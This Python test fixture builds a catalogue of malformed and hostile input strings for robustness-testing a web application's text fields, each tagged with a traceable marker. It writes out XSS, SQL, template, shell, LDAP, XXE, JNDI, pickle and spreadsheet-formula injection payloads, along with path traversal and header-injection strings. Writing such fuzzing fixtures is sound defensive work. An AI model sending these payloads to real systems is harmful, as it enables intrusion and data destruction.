"""What somebody could send instead of a text: each kind is one way in which programs have broken before.

`MARK` stands where a word that occurs nowhere else is put in, so that the text is found again wherever it was stored.
Kinds without it are looked for as they are.
"""

from dataclasses import dataclass

MARK = "⟦mark⟧"


@dataclass(frozen=True)
class Kind:
    name: str
    text: str
    # What goes over the wire when it is no proper UTF-8; `text` is then what a lenient decoder makes of it.
    raw: bytes | None = None
    # Sent under the same name more than once, this last.
    before: tuple[str, ...] = ()

    def value(self, mark: str) -> str:
        return self.text.replace(MARK, mark)

    def sent(self, mark: str) -> list[bytes]:
        raw = self.raw.replace(MARK.encode(), mark.encode()) if self.raw is not None else None
        last = self.value(mark).encode("utf-8", "surrogatepass") if raw is None else raw
        return [*(text.encode() for text in self.before), last]


def _zalgo(word: str) -> str:
    return "".join(letter + "\u0301\u0336\u0353\u0489\u030a" * 12 for letter in word)


def _texts() -> dict[str, str]:
    m = MARK
    return {
        "plain": f"Ein gewöhnlicher Satz {m}",
        # -- characters
        "NUL": f"vor\x00nach {m}",
        "NUL at the end": f"{m}\x00",
        "control characters": f"a\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x7f {m}",
        "C1 controls": f"a\x80\x85\x9b31m {m}",
        "escape sequence of a terminal": f"\x1b]0;Titel\x07\x1b[2J {m}",
        "right-to-left override": f"Rechnung\u202egpj.exe\u202c {m}",
        "unclosed isolates": f"\u2066\u2067\u2068 Text {m}",
        "zero width": f"Max\u200b\u200c\u200d\ufeffMustermann {m}",
        "only zero width": "\u200b\u200c\u2060\ufeff",
        "soft hyphens": f"Ar\u00adbeits\u00adsu\u00adche {m}",
        "blank of every width": "\u00a0\u2003\u2007\u202f\u3000",
        "Hangul filler": "\u3164\u115f\uffa0",
        "braille blank": "\u2800\u2800",
        "line and paragraph separators": f"eins\u2028zwei\u2029drei {m}",
        "mixed line ends": f"eins\r\nzwei\rdrei\nvier {m}",
        "tabs and vertical tabs": f"\t\tspalte\t {m}\t",
        "byte order mark": f"\ufeffAnfang {m}",
        "non-characters": f"\ufffe\uffff\ufdd0 {m}",
        "private use": f"\ue000\U000f0000\U0010fffd {m}",
        "beyond the basic plane": f"𐐷𝔄𠜎 {m}",
        "emoji with joiners": f"👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇩🇪 {m}",
        "tag characters": f"\U000e0041\U000e0042\U000e007f {m}",
        "variation selectors": f"a{chr(0xFE0F) * 60} {m}",
        "zalgo": f"{_zalgo('Antrag')} {m}",
        "one base, a thousand accents": f"e{chr(0x301) * 1000} {m}",
        "decomposed umlauts": f"Mu\u0308ller-Go\u0308bel {m}",
        "ligatures and compatibility forms": f"ﬁnanz ﷺ Ⅷ ½ ² {m}",
        "look-alikes": f"Меуеr Αdmin раypal {m}",
        "dotless and dotted i": f"İıIi STRASSE straße ẞ {m}",
        "arabic with marks": f"السَّلَامُ عَلَيْكُمْ {m}",
        "digits of other scripts": f"٢٠٢٦-١١-٢٣ १२ ²³ {m}",
        # -- size
        "100 kB in one word": f"{'A' * 100_000}{m}",
        "100 kB of four-byte characters": f"{'😀' * 25_000}{m}",
        "twenty thousand lines": f"{'x' + chr(10)}" * 20_000 + m,
        "empty": "",
        "blanks": "     ",
        # -- HTML and scripts
        "script": f"<script>window.owned=1</script>{m}",
        "script in pieces": f"<scr<script>ipt>window.owned=1</scr</script>ipt>{m}",
        "image with handler": f'"><img src=x onerror="window.owned=1">{m}',
        "svg with handler": f"<svg/onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x>{m}",
        "attribute break": f"' onfocus=window.owned=1 autofocus tabindex=1 x='{m}",
        "attribute break with quotes": f'" onmouseover="window.owned=1" style="position:fixed;inset:0" x="{m}',
        "closing everything": f"</textarea></title></style></script></select></option><h1>owned{m}",
        "comment break": f"--><script>window.owned=1</script><!--{m}",
        "iframe and base": f"<iframe srcdoc='<script>parent.owned=1</script>'></iframe><base href=//example.org>{m}",
        "meta refresh": f"<meta http-equiv=refresh content='0;url=//example.org/'>{m}",
        "form in the form": f"</form><form action=//example.org><input name=q><button autofocus>{m}",
        "script address": f"javascript:window.owned=1//{m}",
        "script address in disguise": f"java\tscript&colon;window.owned=1//{m}",
        "data address": f"data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+{m}",
        "htmx attributes": f'<a hx-get="/abmelden/" hx-trigger="load" hx-on:load="window.owned=1">x</a>{m}',
        "mathml and mutation": f"<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>{m}",
        "character references": f"&lt;script&gt;&#60;b&#x3e;&amp;amp;&nbsp;{m}",
        "style with import": f"<style>@import'//example.org/x';*{{display:none}}</style>{m}",
        "dom clobbering": f"<form id=fallarbeit><input id=body name=submit></form>{m}",
        "markdown link": f"[klick](javascript:window.owned=1) ![x](//example.org/x.png) {m}",
        # -- languages of programs
        "sql end": f"'; DROP TABLE casework_client; --{m}",
        "sql always": f"' OR '1'='1' /* {m}",
        "sql union": f"1) UNION SELECT password FROM casework_user-- {m}",
        "sql dollar quotes": f"$$; SELECT pg_sleep(20); $$ {m}",
        "sql placeholders": f"%s %(name)s ? :x $1 {m}",
        "like wildcards": f"100%_\\%[a-z] {m}",
        "regular expression": f"(a+)+$[.*?^{{}}|\\b {m}",
        "full-text operators": f"a & !b | (c <-> d):* ''' {m}",
        "template": f"{{{{ 7|add:'35' }}}}{{% debug %}}{{# x #}}{{% include '/etc/passwd' %}}{m}",
        "other templates": f"${{7*7}} #{{7*7}} <%= 7*7 %> {{{{constructor.constructor('window.owned=1')()}}}}{m}",
        "format strings": f"%s%s%n%x%d {{0}} {{0.__class__.__mro__}} {{settings.SECRET_KEY}} {m}",
        "typst": f'#eval("1") #include "/etc/passwd" $sum$ @ref <label> *fett* {m}',
        "latex": f"\\input{{/etc/passwd}}\\write18{{id}} {m}",
        "shell": f"; $(id) `id` | cat /etc/passwd && rm -rf x # {m}",
        "path traversal": f"../../../../etc/passwd%00.pdf ..\\..\\windows {m}",
        "percent encoded": f"%3Cscript%3E%00%0d%0a%c0%ae {m}",
        "formula": f'=HYPERLINK("http://example.org";"klick"){m}',
        "formula with command": f"=cmd|' /C calc'!A0{m}",
        "formula with plus": f"+1+1;@SUM(1+9)*cmd {m}",
        "formula after a tab": f"\t=1+1 {m}",
        "separators of tables": f'";",\t|;\r\n"x";"y" {m}',
        "header break": f"Titel\r\nSet-Cookie: owned=1\r\n\r\n<h1>owned</h1>{m}",
        "mail header": f"x\nBcc: alle@example.org\n\n{m}",
        "json": f'{{"__proto__": {{"owned": 1}}, "a": [1, null, true]}} {m}',
        "json break": f'"}}]}}</script><script>window.owned=1</script>{m}',
        "xml with entity": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>{m}',
        "cdata": f"<![CDATA[ ]]><script>window.owned=1</script>]]>{m}",
        "ldap and xpath": f"*)(uid=*))(|(uid=* ' or count(/)=1 or ' {m}",
        "jndi": f"${{jndi:ldap://example.org/a}} {m}",
        "pickle": f"cos\nsystem\n(S'id'\ntR. {m}",
        "calendar break": f"Termin\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:file:///etc/passwd {m}",
        "log line": f'x\n{{"level": "critical", "message": "owned"}} {m}',
        # -- values of other kinds
        "a huge number": "9" * 400,
        "beyond 64 bits": "9223372036854775808",
        "a negative number": "-2147483649",
        "infinity": "Infinity",
        "not a number": "NaN",
        "exponent": "1e309",
        "hexadecimal": "0x7fffffffffffffff",
        "a day that is none": "31.02.2026",
        "the first day": "01.01.0001",
        "the year ten thousand": "01.01.10000",
        "a time that is none": "25:61",
        "null in words": "null",
        "undefined": "undefined",
        "None": "None",
        "true": "true",
        "brackets": "[]",
        "braces": "{}",
        "a uuid that is none": "00000000-0000-0000-0000-00000000000g",
    }


def _raws() -> list[Kind]:
    m = MARK
    broken = {
        "lone surrogate": b"a\xed\xa0\x80b " + m.encode(),
        "surrogates as two": b"\xed\xa0\xbd\xed\xb8\x80 " + m.encode(),
        "invalid bytes": b"\xff\xfe\x80\xc3 " + m.encode(),
        "overlong slash": b"\xc0\xaf\xe0\x80\xaf " + m.encode(),
        "Latin-1": "Müller Größe ".encode("latin-1") + m.encode(),
        "UTF-16": "Text ".encode("utf-16") + m.encode(),
        "cut in a character": m.encode() + " ä".encode()[:-1],
    }
    return [Kind(name, raw.decode("utf-8", "replace"), raw=raw) for name, raw in broken.items()]


KINDS = [
    *(Kind(name, text) for name, text in _texts().items()),
    *_raws(),
    Kind("the same name twice", f"zweimal {MARK}", before=("erstes",)),
    Kind("the same name a hundred times", f"hundertmal {MARK}", before=tuple(str(n) for n in range(99))),
]
PLAIN = KINDS[0]
